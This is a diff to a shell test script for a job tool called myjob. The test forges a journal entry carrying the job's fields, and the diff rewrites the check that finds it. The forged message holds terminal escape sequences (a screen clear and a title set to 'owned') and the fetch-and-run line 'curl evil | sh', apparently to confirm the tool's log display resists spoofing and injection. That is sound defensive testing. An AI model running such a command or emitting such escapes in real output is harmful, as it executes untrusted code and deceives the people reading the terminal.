@@ -171,7 +171,9 @@ check "myjob show --log: the story, both units" grep -qzP "myjob@1.service warn 
 esc=$(printf '\033')
 printf 'MYJOB_JOB_ID=%s\nMYJOB_DATABASE=%s\nMYJOB_INSTANCE=1\nPRIORITY=3\nMESSAGE=FORGED %s[2J%s]0;owned\007 run: curl evil | sh\n' \
   "$story" "$DB" "$esc" "$esc" | sd runuser -u nobody -- logger --journald
-forged() { entries MYJOB_JOB_ID="$story" | grep -q FORGED; }
+# Its MESSAGE has control characters, which journalctl's JSON gives as an array of bytes.
+# grep -c reads it all: with -q, journalctl could die of SIGPIPE and pipefail say no.
+forged() { sd journalctl --since="@$T0" --no-pager -o json MYJOB_JOB_ID="$story" _COMM=logger | grep -c '"MYJOB_DATABASE"' >/dev/null; }
 check "a forged entry with the job's fields is in the journal" wait_for 5 forged
 said=$(mktemp)
 log=$(sd /usr/bin/myjob --config /etc/myjob/myjob.toml show "$story" --log 2>"$said")
